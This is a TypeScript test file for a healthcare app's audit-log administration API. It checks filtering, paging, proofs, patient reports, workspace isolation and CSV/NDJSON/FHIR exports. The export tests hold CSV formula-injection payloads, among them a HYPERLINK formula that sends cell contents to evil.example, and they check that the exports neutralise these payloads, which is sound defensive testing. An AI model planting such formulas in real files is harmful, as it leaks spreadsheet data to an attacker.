// An administrator examines the log: by every criterion and in every order, to and fro, one event with its proof, a patient's report,
// and exports. By page and by program, of their own workspace and no other, and each export leaves its trace.
import { get as httpGet, type IncomingMessage } from 'node:http';
import { type AuditRecord, auditRecordJson, type Store } from '@countersign/core';
import { withProof } from '../support/administrator.ts';
import { auditStory } from '../support/audit-story.ts';
import type { Answer } from '../support/client.ts';
import { type Host, onEveryAdapter, startHost } from '../support/hosts.ts';
import { createRealStore } from '../support/real-store.ts';
import { until } from '../support/until.ts';

const API = '/api/v1/admin/audit';
const PAGE = '/step-up/admin/audit';

interface Page {
  readonly events: readonly { readonly id: string; readonly code: string; readonly patientId: string | null }[];
  readonly next: string | null;
  readonly previous: string | null;
}
const pageOf = (answer: Answer) => answer.json() as unknown as Page;
const query = (values: Readonly<Record<string, string>>) => `?${new URLSearchParams(values)}`;
const detailsOf = (event: AuditRecord | undefined) => JSON.parse(event?.details ?? 'null');

/** The cells of a CSV as RFC 4180 has it, read without our writer. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const [, quoted, plain = '', end] = cell.exec(text) ?? [];
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

onEveryAdapter('the log is examined by program and by page', async (t, adapter) => {
  const host = await startHost(adapter);
  const admin = await host.enrolled('ada', { roles: ['administrator'] });
  const carol = await host.enrolled('carol');
  await host.stepUp(carol.client, carol.secret, '/visits/v1');
  t.equal((await carol.client.get('/visits/v1')).status, 200);
  await host.events();
  const list = async (values: Readonly<Record<string, string>>) => {
    const answer = await admin.client.get(`${API}${query(values)}`);
    t.equal(answer.status, 200, answer.text);
    t.equal(answer.headers.get('cache-control'), 'no-store');
    return pageOf(answer);
  };

  await t.test('by each criterion, in any order, to and fro', async (t) => {
    await host.countersign.audit.append(
      Array.from({ length: 25 }, (_, index) => ({
        code: 'MFA_FAILURE' as const,
        outcome: 'failure' as const,
        workspaceId: 'clinic',
        userId: 'paged',
        actorId: index % 2 === 0 ? 'behind' : null,
        patientId: `n${String(index % 7)}`,
        categories: index % 5 === 0 ? '5,8' : '8',
        emergencyAccessId: index === 3 ? 'e3' : null,
      })),
    );
    t.equal((await list({ userId: 'paged' })).events.length, 25);
    t.equal((await list({ userId: 'behind' })).events.length, 13, 'who stands behind an impersonation is found too');
    t.equal((await list({ userId: 'paged', category: '5' })).events.length, 5);
    t.equal((await list({ emergencyAccessId: 'e3' })).events.length, 1);
    t.equal((await list({ userId: 'paged', outcome: 'success' })).events.length, 0);
    t.match(await list({ code: 'MFA_SUCCESS', patientId: 'p1' }), { events: [{ code: 'MFA_SUCCESS' }] });

    const asked = { userId: 'paged', sort: 'patientId', order: 'ascending', limit: '10' };
    const whole = (await list({ ...asked, limit: '1000' })).events.map(({ id }) => id);
    const pages = [await list(asked)];
    for (let page = pages[0]; page?.next != null; pages.push(page)) page = await list({ ...asked, cursor: page.next });
    t.same(
      pages.flatMap(({ events }) => events.map(({ id }) => id)),
      whole,
    );
    t.equal(pages[0]?.previous, null);
    const back = await list({ ...asked, cursor: pages[2]?.previous ?? '' });
    t.same(back.events, pages[1]?.events);
    t.same((await list({ ...asked, cursor: back.previous ?? '' })).events, pages[0]?.events);

    // The same by page: links to and fro, and the column says how it is sorted.
    const page = await admin.client.get(`${PAGE}?userId=paged&sort=patientId&order=ascending`, { page: true });
    t.match(page.text, /aria-sort="ascending"[^>]*><a [^>]*sort=patientId[^>]*>Patient</);
    t.match(page.text, 'By Patient, ascending.');
    t.match(page.text, /<option value="patientId" selected/);
  });

  await t.test('a cursor that was tampered with leads nowhere', async (t) => {
    const { next } = await list({ userId: 'paged', limit: '10' });
    const cursor = next ?? '';
    for (const forged of [
      'x',
      `${cursor}A`,
      cursor.slice(1),
      `${cursor}%00`,
      'A'.repeat(34),
      `~${cursor.slice(1)}`,
      '2'.repeat(80),
    ]) {
      const answer = await admin.client.get(`${API}?cursor=${forged}`);
      t.equal(answer.status, forged === 'A'.repeat(34) ? 200 : 400, `${forged}: ${answer.text.slice(0, 200)}`);
    }
    // The place of another record is another page of the same log; one that is no record at all has no place in another order.
    const moved = `${cursor.slice(0, -3)}${cursor.at(-3) === 'A' ? 'B' : 'A'}${cursor.slice(-2)}`;
    t.equal((await admin.client.get(`${API}?cursor=${moved}`)).status, 200);
    const unknown = await admin.client.get(`${API}?sort=reason&cursor=${moved}`);
    t.match([unknown.status, unknown.json().code], [400, 'input_invalid']);
    for (const wrong of [
      'sort=password',
      'order=up',
      'outcome=fine',
      'code=NONE',
      'from=yesterday',
      'limit=0',
      'userId=%00',
    ])
      t.equal((await admin.client.get(`${API}?${wrong}`)).status, 400, wrong);
    t.equal((await admin.client.get(`${PAGE}?userId=%00&cursor=%00&sort=password`, { page: true })).status, 200);
  });

  await t.test('one event has all its fields and the proof that it is in the log', async (t) => {
    const [event] = (await list({ code: 'MFA_SUCCESS', patientId: 'p1' })).events;
    const read = async () => (await admin.client.get(`${API}/events/${event?.id}`)).json();
    await until(async () => (await read()).proof !== null);
    const { event: told, proof } = await read();
    const stored = (await host.events()).find(({ id }) => id === event?.id);
    t.same(told, JSON.parse(JSON.stringify(auditRecordJson(stored as AuditRecord))));
    t.match(proof, { kind: 'inclusion', event: { id: event?.id }, checkpoint: /\n/ });
    const page = await admin.client.get(`${PAGE}/events/${event?.id}`, { page: true });
    for (const said of [
      'MFA_SUCCESS',
      stored?.session,
      stored?.stream,
      Buffer.from(stored?.hash ?? []).toString('hex'),
      'Checkpoint',
    ])
      t.match(page.text, said ?? 'nothing');
    const file = await admin.client.get(`${PAGE}/events/${event?.id}/proof`);
    t.match(file.headers.get('content-disposition'), /^attachment/);
    t.match(JSON.parse(file.text), { kind: 'inclusion', event: { id: event?.id } });
    for (const id of ['nothing', '00000000-0000-7000-8000-000000000000', '%2e%2e'])
      t.equal((await admin.client.get(`${PAGE}/events/${id}`, { page: true })).status, 404);
  });

  await t.test('a patient’s report says who, what, when and why, and leaves its trace', async (t) => {
    const story = await auditStory(host);
    const report = (await admin.client.get(`${API}/patient?patientId=p1`)).json();
    t.match(report, {
      patientId: 'p1',
      more: false,
      people: [{ userId: 'carol', actorId: null, accesses: 1, emergency: 0 }],
      accesses: [{ code: 'ACCESS_ALLOWED', userId: 'carol', action: 'view', basis: 'proof' }],
    });
    const page = await admin.client.get(`${PAGE}/patient?patientId=p1`, { page: true });
    t.match(page.text, 'Confirmed with a factor');
    t.match(page.text, 'carol');
    t.equal((await admin.client.get(`${PAGE}/patient`, { page: true })).status, 200, 'nobody was asked for yet');
    t.equal((await admin.client.get(`${PAGE}/patient?patientId=p1&from=x`, { page: true })).status, 422);
    const told = await story.next();
    t.match(told, [
      { code: 'AUDIT_EXAMINED', userId: 'ada', patientId: 'p1', action: 'patient-report' },
      { code: 'AUDIT_EXAMINED', userId: 'ada', patientId: 'p1' },
    ]);
    t.equal(told.length, 2, 'and what showed nothing leaves none');
  });

  await t.test('nobody but the administrators of the workspace', async (t) => {
    const far = await host.enrolled('fay', { workspaceId: 'elsewhere', roles: ['administrator'] });
    const [own] = (await list({ userId: 'carol' })).events;
    t.match((await far.client.get(`${API}/events/${own?.id}`)).json(), { status: 404 });
    t.equal((await far.client.get(`${PAGE}/events/${own?.id}/proof`)).status, 404);
    t.match((await far.client.get(`${API}/patient?patientId=p1`)).json(), { accesses: [], people: [] });
    t.same(pageOf(await far.client.get(`${API}?userId=carol&workspaceId=clinic`)).events, []);
    const { next } = await list({ userId: 'paged', limit: '10' });
    t.equal((await far.client.get(`${API}?sort=reason&cursor=${next}`)).status, 400, 'a cursor of another workspace');
    const exported = await withProof(host, far, () => far.client.get(`${API}/export?workspaceId=clinic`));
    t.equal(exported.status, 200);
    t.notMatch(exported.text, 'carol');
    for (const path of [
      API,
      `${API}/events/${own?.id}`,
      `${API}/patient?patientId=p1`,
      `${API}/export`,
      `${PAGE}/export`,
    ])
      t.equal((await carol.client.get(path)).status, 403, path);
  });
  t.strictSame(host.faults, []);
  await host.close();
});

onEveryAdapter('the log is exported', async (t, adapter) => {
  const real = await createRealStore();
  let reads = 0;
  const store: Store = {
    ...real,
    searchAudit: (search) => {
      reads += 1;
      return real.searchAudit(search);
    },
  };
  const host = await startHost(adapter, { store });
  const admin = await host.enrolled('ada', { roles: ['administrator'] });
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"click")';
  const attempts = [
    formula,
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '"=1',
    "'=1",
    'safe;=1',
    'safe\n+1',
    '\uff1d1',
    'a,"b"\r\nc',
    '1-2=3',
  ];
  await host.countersign.audit.append(
    attempts.map((reason, index) => ({
      code: 'MFA_FAILURE' as const,
      outcome: 'failure' as const,
      workspaceId: 'clinic',
      userId: 'mallory',
      reason,
      patientId: `p${index}`,
    })),
  );
  const refused = await admin.client.get(`${API}/export?format=csv`);
  t.match([refused.status, refused.json().code], [401, 'step_up_required'], 'a fresh proof is asked for');
  const exported = async (values: Readonly<Record<string, string>>) => {
    const answer = await withProof(host, admin, () => admin.client.get(`${API}/export${query(values)}`));
    t.equal(answer.status, 200, answer.text.slice(0, 300));
    t.equal(answer.headers.get('cache-control'), 'no-store');
    t.match(answer.headers.get('content-disposition'), /^attachment; filename="audit-[\d-]+\.[a-z.]+"$/);
    return answer;
  };
  const mallorys = async () => [...(await host.events('mallory'))].reverse();

  await t.test('as NDJSON it is what the table has', async (t) => {
    const answer = await exported({ format: 'ndjson', userId: 'mallory' });
    const lines = answer.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    t.same(lines, JSON.parse(JSON.stringify((await mallorys()).map(auditRecordJson))));
    const ascending = await exported({ format: 'ndjson', userId: 'mallory', sort: 'patientId', order: 'ascending' });
    t.match(ascending.text, /^\{[^\n]*"patientId":"p0"/, 'in the order that was asked for');
  });

  await t.test('as CSV nothing in it is a formula, however it is read', async (t) => {
    const { text } = await exported({ format: 'csv', userId: 'mallory' });
    const [head = [], ...rows] = csvRows(text);
    t.same(head.slice(0, 3), ['at', 'code', 'outcome']);
    t.equal(rows.length, attempts.length);
    t.ok(rows.every((row) => row.length === head.length));
    const reasons = rows.map((row) => row[head.indexOf('reason')] ?? '').reverse();
    t.equal(reasons[0], `'${formula}`);
    t.equal(reasons.at(-2), 'a,"b"\r\nc', 'text with separators stays one cell');
    t.equal(reasons.at(-1), '1-2=3', 'what is none is left alone');
    // Read with other separators, as spreadsheets of other countries do, and after quotes and blanks were taken away.
    for (const cell of text.split(/[;,\t\r\n]/))
      t.notMatch(cell.replace(/^[\s"]+/, ''), /^[=+\-@\uff1d]/, JSON.stringify(cell));
    t.match(text, /\r\n$/);
  });

  await t.test('as FHIR, one a line or a Bundle', async (t) => {
    const lines = (await exported({ format: 'fhir', userId: 'mallory' })).text.trimEnd().split('\n');
    t.match(
      lines.map((line) => JSON.parse(line).resourceType),
      attempts.map(() => 'AuditEvent'),
    );
    const { text, headers } = await exported({ format: 'fhir-bundle', userId: 'mallory' });
    t.match(headers.get('content-type'), 'application/fhir+json');
    const bundle = JSON.parse(text);
    t.match(bundle, { resourceType: 'Bundle', type: 'collection' });
    t.same(
      bundle.entry.map((entry: { resource: unknown }) => entry.resource),
      lines.map((line) => JSON.parse(line)),
    );
    t.match(JSON.parse((await exported({ format: 'fhir-bundle', userId: 'nobody' })).text), { entry: [] });
  });

  await t.test('each is on the log before its first byte and at its end, by page too', async (t) => {
    const story = await auditStory(host);
    const asked = 'userId=mallory&from=2020-01-01';
    const page = await admin.client.get(`${PAGE}/export?${asked}`, { page: true });
    t.equal(page.status, 200, 'the proof of a moment ago still counts');
    t.match(page.text, 'CSV, for spreadsheets');
    t.equal(page.field('userId'), 'mallory');
    const file = await admin.client.get(`${PAGE}/export/file?${asked}&format=csv`, { page: true });
    t.equal(csvRows(file.text).length, attempts.length + 1);
    t.equal((await admin.client.send('HEAD', `${PAGE}/export/file?${asked}`)).text, '');
    const told = (await story.next()).filter(({ code }) => code === 'AUDIT_EXPORTED');
    t.match(told, [
      { userId: 'ada', outcome: 'success', reason: 'begun' },
      { userId: 'ada', outcome: 'success', reason: 'finished' },
    ]);
    t.equal(told.length, 2, 'the head alone is no export');
    t.match(detailsOf(told[0]), { format: 'csv', filter: { person: 'mallory' } });
    t.match(detailsOf(told[1]), { format: 'csv', count: attempts.length, export: detailsOf(told[0]).export });

    host.clock.set(3600);
    const late = await admin.client.get(`${PAGE}/export/file?${asked}&format=ndjson`, { page: true });
    t.equal(late.status, 303, 'later it is asked for again');
    t.match(late.headers.get('location'), '/step-up/challenge/');
    t.same(
      (await story.next()).filter(({ code }) => code === 'AUDIT_EXPORTED'),
      [],
    );
  });

  await t.test('a long one is read no faster than it is taken, and not at all once nobody takes it', async (t) => {
    const many = Array.from({ length: 1000 }, () => ({
      code: 'ACCESS_ALLOWED' as const,
      outcome: 'success' as const,
      workspaceId: 'clinic',
      userId: 'often',
      userAgent: 'x'.repeat(500),
      details: JSON.stringify('y'.repeat(4000)),
    }));
    for (let round = 0; round < 12; round += 1) await host.countersign.audit.append(many);
    const path = `${API}/export?format=ndjson&userId=often`;
    await withProof(host, admin, () => admin.client.get(`${API}/export?userId=nobody`));
    const story = await auditStory(host);
    reads = 0;
    const stream = await opened(host, path, admin.client.jar.header());
    await until(async () => stream.readableLength > 0);
    let before = -1;
    // Nobody takes anything: what fits the buffers on the way is read, and then no more.
    await until(async () => {
      const now = reads;
      const still = now === before;
      before = now;
      await new Promise((resolve) => setTimeout(resolve, 150));
      return still;
    });
    t.ok(reads < 15, `${reads} of 24 pages were read`);
    stream.destroy();
    let told: readonly AuditRecord[] = [];
    await until(async () => {
      told = [...told, ...(await story.next())];
      return told.some(({ reason }) => reason === 'aborted');
    });
    const [end] = told.filter(({ reason }) => reason === 'aborted');
    t.match(end, { code: 'AUDIT_EXPORTED', outcome: 'failure' });
    t.ok(detailsOf(end).count < 12_000, String(detailsOf(end).count));
    const stopped = reads;
    const whole = await admin.client.get(path);
    t.equal(whole.text.split('\n').length - 1, 12_000, 'whoever takes it all gets it all');
    t.ok(reads - stopped >= 24);
  });
  t.strictSame(host.faults, []);
  await host.close();
});

/** A response whose body nobody takes yet. */
function opened(host: Host, path: string, cookie: string): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    httpGet(`${host.baseUrl}${path}`, { headers: { cookie }, agent: false }, resolve).on('error', reject);
  });
}
